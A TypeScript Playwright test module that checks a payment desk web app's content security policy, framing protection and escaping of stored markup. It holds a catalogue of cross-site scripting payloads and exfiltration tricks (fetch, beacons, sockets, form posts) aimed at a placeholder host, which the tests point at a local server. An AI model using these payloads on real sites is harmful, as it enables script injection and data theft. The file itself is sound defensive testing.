import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { DeskPage } from '#test/journey/support/desk-page.ts';
import { type Attempt, outcomeOf } from './attempt.ts';
import type { Target } from './target.ts';

/** Sets `hacked` when it runs. */
const MARKUP = '<img src="x:" onerror="globalThis.hacked=1"><script>globalThis.hacked=1</script>';

/**
 * What injected content would do next, as script text. `THERE` stands for an address of another origin. The scripts run
 * from a timer, because the page's policy does not apply to what a debugger evaluates.
 */
const TRICKS: Readonly<Record<string, string>> = {
  'an inline script': element('script', { textContent: 'globalThis.hacked=1' }),
  'an inline handler': `document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.hacked=1">')`,
  'a javascript: link': `${element('a', { href: 'javascript:globalThis.hacked=1' })}.click()`,
  'text as code': `new Function('globalThis.hacked=1')()`,
  'a timer of text': `setTimeout('globalThis.hacked=1')`,
  'a script from elsewhere': element('script', { src: 'THERE' }),
  'a script in a data: address': element('script', { src: 'data:text/javascript,globalThis.hacked=1' }),
  'a script in a blob': `${element('script', {})}.src = URL.createObjectURL(new Blob(['globalThis.hacked=1']))`,
  'a worker in a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("THERE")'])))`,
  'a style from here': element('style', { textContent: 'body{background:url(THERE)}' }),
  'a style from elsewhere': element('link', { rel: 'stylesheet', href: 'THERE' }),
  'a picture from elsewhere': element('img', { src: 'THERE' }),
  'a request elsewhere': `fetch('THERE', { mode: 'no-cors' })`,
  'a beacon': `navigator.sendBeacon('THERE', 'x')`,
  'a socket elsewhere': `new WebSocket('THERE'.replace('http', 'ws'))`,
  'events from elsewhere': `new EventSource('THERE')`,
  'a frame': element('iframe', { src: 'THERE' }),
  'an object': element('object', { data: 'THERE' }),
  'a form that sends elsewhere': `${element('form', { action: 'THERE', method: 'post' })}.submit()`,
  'another base': `document.head.prepend(Object.assign(document.createElement('base'), { href: 'THERE/' })); ${element('img', { src: 'x.png' })}`,
};

/** Every page we serve. */
const PAGES: Readonly<Record<string, (target: Target) => string>> = {
  'the desk': ({ stack }) => `${stack.deskUrl}/`,
  'the sign-in': ({ stack }) => `${stack.deskUrl}/oidc/nowhere`,
  'the phone': ({ stack }) => `${stack.simulatorUrl}/phone`,
};

/** Injected content in every page under its policy, our pages framed by other sites, and stored markup on the desk. */
export const PAGE_ATTACKS: readonly Attempt[] = [
  ...Object.entries(PAGES).flatMap(([name, addressOf]) => [
    ...Object.entries(TRICKS).map(([trick, script]) =>
      attempt(`${name}: ${trick}`, 'nothing ran, nothing left', (target) =>
        tryTrick(target, addressOf(target), script),
      ),
    ),
    attempt(`${name} in a frame of another site`, 'not shown', (target) => frame(target, addressOf(target))),
  ]),
  attempt('control: every trick works on a page without a policy', 'all work', withoutPolicy),
  {
    ...attempt('markup kept as a description', '201', storeMarkup),
    control: true,
  },
  attempt('the desk shows stored markup in a list and a record', 'shown as text, nothing ran', showMarkup),
];

function attempt(name: string, expected: string, run: Attempt['run']): Attempt {
  return { family: 'pages', name, expected, run };
}

async function tryTrick(target: Target, address: string, script: string): Promise<string> {
  const there = await listen('<!doctype html>');
  const page = await (await target.browser()).newPage();
  try {
    await page.addInitScript(() =>
      addEventListener('securitypolicyviolation', ({ disposition }) =>
        Object.assign(globalThis, { refused: disposition === 'enforce' }),
      ),
    );
    await page.goto(address);
    const text = script.replaceAll('THERE', there.url);
    // From a timer: the page's policy does not apply to what the debugger runs itself.
    await page.evaluate(`globalThis.refused = false; setTimeout(() => { ${text} })`);
    if (!(await Promise.race([showsIn(page), there.reached]))) return 'neither worked nor was refused';
    const ran = await page.evaluate(() => 'hacked' in globalThis).catch(() => true);
    return `${ran ? 'something' : 'nothing'} ran, ${there.requests() > 0 ? 'something' : 'nothing'} left`;
  } finally {
    await page.close();
    await there.close();
  }
}

/** False when the trick neither ran nor was refused by the page's policy. */
function showsIn(page: Page): Promise<boolean> {
  const shows = () => 'hacked' in globalThis || Reflect.get(globalThis, 'refused') === true;
  return page.waitForFunction(shows).then(
    () => true,
    () => false,
  );
}

/** Shows that the tricks are noticed when they work. */
async function withoutPolicy(target: Target): Promise<string> {
  const open = await listen('<!doctype html><title>No policy</title>');
  const failing: string[] = [];
  for (const [name, script] of Object.entries(TRICKS)) {
    if (!(await tryTrick(target, open.url, script)).includes('something')) failing.push(name);
  }
  await open.close();
  return failing.length === 0 ? 'all work' : `does not work: ${failing.join(', ')}`;
}

async function frame(target: Target, address: string): Promise<string> {
  const there = await listen(`<!doctype html><iframe src="${address}"></iframe>`);
  const page = await (await target.browser()).newPage();
  try {
    await page.goto(there.url, { waitUntil: 'load' });
    const shown = page.frames().some((each) => each.url().startsWith(address));
    return shown ? 'shown' : 'not shown';
  } finally {
    await page.close();
    await there.close();
  }
}

async function storeMarkup({ desk, tokens, paySid, callSid }: Target): Promise<string> {
  const headers = { Authorization: `Bearer ${tokens.ana}` };
  await desk('POST', '/api/cancelPaySession', headers, JSON.stringify({ paySid, reason: MARKUP }));
  const start = { callSid, chargeAmount: '2.00', description: MARKUP };
  return outcomeOf(await desk('POST', '/api/startPaySession', headers, JSON.stringify(start)));
}

async function showMarkup(target: Target): Promise<string> {
  const { desk, stack, tokens, callSid } = target;
  const context = await (await target.browser()).newContext();
  const page = await context.newPage();
  try {
    await new DeskPage(page, stack.deskUrl).signIn('sam');
    const listed = await desk('GET', `/api/paySessions?callSid=${callSid}`, {
      Authorization: `Bearer ${tokens.sam}`,
    });
    const { items } = JSON.parse(listed.body.toString()) as { items: readonly { paySid: string }[] };
    await page.goto(`${stack.deskUrl}/payments`);
    await page.getByRole('row').nth(1).waitFor();
    let shown = '';
    for (const { paySid } of items) {
      await page.goto(`${stack.deskUrl}/payments/${paySid}`);
      await page.getByText(paySid, { exact: true }).waitFor();
      shown += await textOf(page);
    }
    const ran = await page.evaluate(() => 'hacked' in globalThis);
    return `${shown.includes(MARKUP) ? 'shown as text' : 'not shown'}, ${ran ? 'something' : 'nothing'} ran`;
  } finally {
    await context.close();
  }
}

function textOf(page: Page): Promise<string> {
  return page.evaluate(() => document.body.textContent ?? '');
}

/** A site of another origin that counts its requests. */
async function listen(body: string) {
  let requests = 0;
  let reach = (_: true) => {};
  const reached = new Promise<true>((resolve) => {
    reach = resolve;
  });
  const count = (isOwn: boolean) => {
    if (isOwn) return;
    requests += 1;
    reach(true);
  };
  const server = createServer((request, response) => {
    // We request the frame's own page.
    count(body.includes('<iframe') || request.url === '/favicon.ico');
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(body);
  });
  server.on('upgrade', (_, socket) => {
    count(false);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests: () => requests,
    /** Resolves when the first request arrives. */
    reached,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

function element(name: string, properties: Readonly<Record<string, string>>): string {
  return `document.body.appendChild(Object.assign(document.createElement('${name}'), ${JSON.stringify(properties)}))`;
}
